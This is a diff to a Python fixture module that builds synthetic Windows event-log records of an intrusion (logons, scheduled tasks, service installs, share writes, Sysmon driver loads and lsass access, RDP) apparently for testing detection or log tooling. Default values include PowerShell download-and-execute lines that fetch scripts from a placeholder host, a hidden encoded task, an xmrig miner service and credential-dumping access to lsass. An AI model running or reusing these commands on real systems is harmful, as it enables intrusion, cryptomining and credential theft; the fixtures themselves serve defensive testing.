@@ -2,8 +2,9 @@
 
 An ``Event`` holds what Windows stores for a record (System values plus EventData or
 UserData). Builders make the events an intrusion leaves — 4624/4625 logons, 4648, 4688
-with command lines, 7045 service installs, 4698 with its task XML, Sysmon 1/3/22, 4104
-script blocks, 1102, RDP and WMI — and renderers write them as:
+with command lines, 7045/4697 service installs, 4698 with its task XML, 4699, TaskScheduler
+106, 5145 share access, Sysmon 1/3/6/10/22, 4104 script blocks, 1102, RDP (LSM 21, RCM 1149)
+and WMI — and renderers write them as:
 
     to_xml(ev)          wevtutil qe LOG /f:xml (one <Event>, single-quoted attributes)
     export(evs, root)   a whole export, optionally wrapped in <Events>
@@ -26,6 +27,10 @@ SYSMON = ("Microsoft-Windows-Sysmon", "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}",
 POWERSHELL = ("Microsoft-Windows-PowerShell", "{a0c1853b-5c40-4b15-8766-3cf1c58f985a}",
               "Microsoft-Windows-PowerShell/Operational")
 SCM = ("Service Control Manager", "{555908d1-a6d7-4695-8e1e-26931d2012f4}", "System")
+SCHEDULER = ("Microsoft-Windows-TaskScheduler", "{de7b24ea-73c8-4a09-985d-5bdadcfa9017}",
+             "Microsoft-Windows-TaskScheduler/Operational")
+RCM = ("Microsoft-Windows-TerminalServices-RemoteConnectionManager", "{c76baa63-ae81-421c-b425-340b4b24157f}",
+       "Microsoft-Windows-TerminalServices-RemoteConnectionManager/Operational")
 T0 = dt.datetime(2024, 3, 5, 2, 14, 7, 123456)
 
 
@@ -172,8 +177,11 @@ def to_evtx_json(ev: Event) -> dict[str, Any]:
 
 # --- builders ---------------------------------------------------------------------------------
 
-_SUBJECT_SYSTEM = {"SubjectUserSid": "S-1-5-18", "SubjectUserName": "WS01$", "SubjectDomainName": "CORP",
-                   "SubjectLogonId": "0x3e7"}
+def subject(user: str = "alice", logon_id: str = "0x2a9f1c3", sid: str = "S-1-5-21-1-2-3-1104",
+            domain: str = "CORP") -> dict[str, str]:
+    """The Subject* fields of a Security record: who did it, in which logon session."""
+    return {"SubjectUserSid": sid, "SubjectUserName": user, "SubjectDomainName": domain,
+            "SubjectLogonId": logon_id}
 
 
 def logon(success: bool = True, user: str = "alice", ip: str = "203.0.113.77", port: int = 51234,
@@ -198,7 +206,7 @@ def logon(success: bool = True, user: str = "alice", ip: str = "203.0.113.77", p
 
 
 def explicit_logon(user: str = "svc_backup", server: str = "FS01.corp.example", **kw: Any) -> Event:
-    data = {**_SUBJECT_SYSTEM, "LogonGuid": "{00000000-0000-0000-0000-000000000000}",
+    data = {**subject("WS01$", "0x3e7", "S-1-5-18"), "LogonGuid": "{00000000-0000-0000-0000-000000000000}",
             "TargetUserName": user, "TargetDomainName": "CORP", "TargetLogonGuid": "{0}",
             "TargetServerName": server, "TargetInfo": server, "ProcessId": "0x1f4",
             "ProcessName": r"C:\Windows\System32\svchost.exe", "IpAddress": "-", "IpPort": "-"}
@@ -209,8 +217,7 @@ def process_creation(image: str = r"C:\Windows\System32\cmd.exe",
                      command_line: str = r'cmd.exe /c "powershell -nop -w hidden -c IEX(iwr http://198.51.100.9/x.ps1)"',
                      pid: int = 0x1A2C, parent: str = r"C:\Windows\System32\services.exe",
                      user: str = "alice", **kw: Any) -> Event:
-    data = {"SubjectUserSid": "S-1-5-21-1-2-3-1104", "SubjectUserName": user, "SubjectDomainName": "CORP",
-            "SubjectLogonId": "0x2a9f1c3", "NewProcessId": hex(pid), "NewProcessName": image,
+    data = {**subject(user), "NewProcessId": hex(pid), "NewProcessName": image,
             "TokenElevationType": "%%1936", "ProcessId": "0x2d4", "CommandLine": command_line,
             "TargetUserSid": "S-1-0-0", "TargetUserName": "-", "TargetDomainName": "-",
             "TargetLogonId": "0x0", "ParentProcessName": parent, "MandatoryLabel": "S-1-16-16384"}
@@ -242,11 +249,42 @@ def task_xml(command: str, arguments: str = "", user_id: str = "S-1-5-18") -> st
 def task_created(name: str = r"\Microsoft\Windows\Maintenance\SysUpd",
                  command: str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
                  arguments: str = "-nop -w hidden -enc SQBFAFgA", content: str | None = None,
-                 **kw: Any) -> Event:
-    data = {"SubjectUserSid": "S-1-5-21-1-2-3-1104", "SubjectUserName": "alice", "SubjectDomainName": "CORP",
-            "SubjectLogonId": "0x2a9f1c3", "TaskName": name,
+                 who: dict[str, str] | None = None, **kw: Any) -> Event:
+    """4698; ``who`` (``subject(...)``) is the account and logon session that registered it."""
+    data = {**(who or subject()), "TaskName": name,
             "TaskContent": content if content is not None else task_xml(command, arguments)}
     return Event(*SECURITY, 4698, data, version=1, task=12804, **kw)
+
+
+def task_deleted(name: str = r"\Microsoft\Windows\Maintenance\SysUpd", who: dict[str, str] | None = None,
+                 **kw: Any) -> Event:
+    """4699: a task deleted (miners delete and re-add theirs, or a rival's)."""
+    return Event(*SECURITY, 4699, {**(who or subject()), "TaskName": name}, version=1, task=12804, **kw)
+
+
+def task_registered(name: str = r"\Microsoft\Windows\Maintenance\SysUpd", user: str = "CORP\\alice",
+                    **kw: Any) -> Event:
+    """TaskScheduler/Operational 106: the scheduler's own note of a registered task."""
+    return Event(*SCHEDULER, 106, {"TaskName": name, "UserContext": user}, task=106,
+                 keywords="0x8000000000000000", user_sid="S-1-5-18", **kw)
+
+
+def service_install_security(name: str = "WinSysUpd", file_name: str = r"C:\Windows\Temp\xmrig.exe",
+                             who: dict[str, str] | None = None, account: str = "LocalSystem",
+                             **kw: Any) -> Event:
+    """4697, the Security log's view of a new service (audit "Security System Extension")."""
+    data = {**(who or subject()), "ServiceName": name, "ServiceFileName": file_name, "ServiceType": "0x10",
+            "ServiceStartType": "3", "ServiceAccount": account}
+    return Event(*SECURITY, 4697, data, task=12289, **kw)
+
+
+def share_access(share: str = "ADMIN$", target: str = "xmrig.exe", ip: str = "203.0.113.77",
+                 who: dict[str, str] | None = None, access: str = "%%4417", **kw: Any) -> Event:
+    """5145: a file on a share checked for access (``%%4417`` = WriteData: a copy to ADMIN$)."""
+    data = {**(who or subject()), "ObjectType": "File", "IpAddress": ip, "IpPort": "49811",
+            "ShareName": f"\\\\*\\{share}", "ShareLocalPath": "\\??\\C:\\Windows",
+            "RelativeTargetName": target, "AccessMask": "0x2", "AccessList": access}
+    return Event(*SECURITY, 5145, data, task=12811, **kw)
 
 
 def _sysmon(event_id: int, data: dict[str, str], **kw: Any) -> Event:
@@ -292,6 +330,29 @@ def sysmon_dns(query: str = "pool.minexmr.com", answers: str = "::ffff:198.51.10
     return _sysmon(22, data, **kw)
 
 
+def sysmon_driver(image_loaded: str = r"C:\Users\Public\WinRing0x64.sys",
+                  hashes: str = "SHA256=" + "11" * 32, signature: str = "Noriyuki MIYAZAKI",
+                  **kw: Any) -> Event:
+    """Sysmon 6, a kernel driver loaded (XMRig's WinRing0 for MSR access)."""
+    data = {"RuleName": "-", "UtcTime": "2024-03-05 02:14:10.000", "ImageLoaded": image_loaded,
+            "Hashes": hashes, "Signed": "true", "Signature": signature, "SignatureStatus": "Valid"}
+    return _sysmon(6, data, **kw)
+
+
+def sysmon_access(source_image: str = r"C:\Windows\Temp\m.exe",
+                  target_image: str = r"C:\Windows\system32\lsass.exe", granted_access: str = "0x1010",
+                  source_pid: int = 7300, source_user: str = "NT AUTHORITY\\SYSTEM", **kw: Any) -> Event:
+    """Sysmon 10, one process opening another (0x1010 on lsass: credential dumping)."""
+    data = {"RuleName": "-", "UtcTime": "2024-03-05 02:14:11.000",
+            "SourceProcessGUID": "{0fd50764-0004-0000-0000-000000001800}", "SourceProcessId": str(source_pid),
+            "SourceThreadId": "6140", "SourceImage": source_image,
+            "TargetProcessGUID": "{0fd50764-0005-0000-0000-000000001800}", "TargetProcessId": "668",
+            "TargetImage": target_image, "GrantedAccess": granted_access,
+            "CallTrace": r"C:\Windows\SYSTEM32\ntdll.dll+9d4c4|C:\Windows\System32\KERNELBASE.dll+2c13e",
+            "SourceUser": source_user, "TargetUser": "NT AUTHORITY\\SYSTEM"}
+    return _sysmon(10, data, **kw)
+
+
 def script_block(text: str = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.9/m.ps1')",
                  **kw: Any) -> Event:
     data = {"MessageNumber": "1", "MessageTotal": "1", "ScriptBlockText": text,
@@ -301,11 +362,9 @@ def script_block(text: str = "IEX (New-Object Net.WebClient).DownloadString('htt
 
 
 def log_cleared(user: str = "alice", **kw: Any) -> Event:
-    fields = {"SubjectUserSid": "S-1-5-21-1-2-3-1104", "SubjectUserName": user,
-              "SubjectDomainName": "CORP", "SubjectLogonId": "0x2a9f1c3"}
     return Event("Microsoft-Windows-Eventlog", "{fc65ddd8-d6ef-4962-83d5-6e5cfe9ce148}", "Security", 1102,
                  user_data=("LogFileCleared", "http://manifests.microsoft.com/win/2004/08/windows/eventlog",
-                            fields), task=104, keywords="0x4020000000000000", **kw)
+                            subject(user)), task=104, keywords="0x4020000000000000", **kw)
 
 
 def rdp_logon(user: str = "CORP\\alice", address: str = "203.0.113.50", **kw: Any) -> Event:
@@ -313,6 +372,13 @@ def rdp_logon(user: str = "CORP\\alice", address: str = "203.0.113.50", **kw: An
     provider = "Microsoft-Windows-TerminalServices-LocalSessionManager"
     return Event(provider, "{5d896912-022d-40aa-a3a8-4fa5515c76d7}", provider + "/Operational", 21,
                  user_data=("EventXML", "Event_NS", fields), user_sid="S-1-5-18", **kw)
+
+
+def rdp_auth(user: str = "administrator", domain: str = "CORP", address: str = "203.0.113.50",
+             **kw: Any) -> Event:
+    """RemoteConnectionManager 1149: RDP network authentication succeeded (before the session)."""
+    fields = {"Param1": user, "Param2": domain, "Param3": address}
+    return Event(*RCM, 1149, user_data=("EventXML", "Event_NS", fields), user_sid="S-1-5-20", **kw)
 
 
 def wmi_binding(command: str = r'powershell.exe -nop -c "iex(gc C:\ProgramData\u.ps1)"',
